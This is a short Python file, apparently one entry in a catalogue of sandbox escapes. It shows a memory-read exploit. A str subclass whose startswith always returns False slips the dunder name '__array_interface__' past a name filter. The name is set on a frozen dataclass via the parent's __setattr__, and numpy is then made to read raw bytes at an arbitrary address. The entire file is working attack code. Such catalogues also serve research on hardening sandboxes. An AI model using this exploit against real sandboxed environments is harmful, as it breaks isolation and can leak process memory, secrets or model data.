"""Class: memory. Source: own find. Escape: the same `__setattr__`, with a name that lies about
itself."""

from dataclasses import dataclass

import numpy as np


class Liar(str):
    def startswith(self, *args):
        return False


@dataclass(frozen=True)
class A:
    x: int


class B(A):
    pass


def attack(model, tokenizer, address):
    b = B(1)
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    A.__setattr__(b, Liar("__array_interface__"), interface)
    return np.array(b).tobytes()
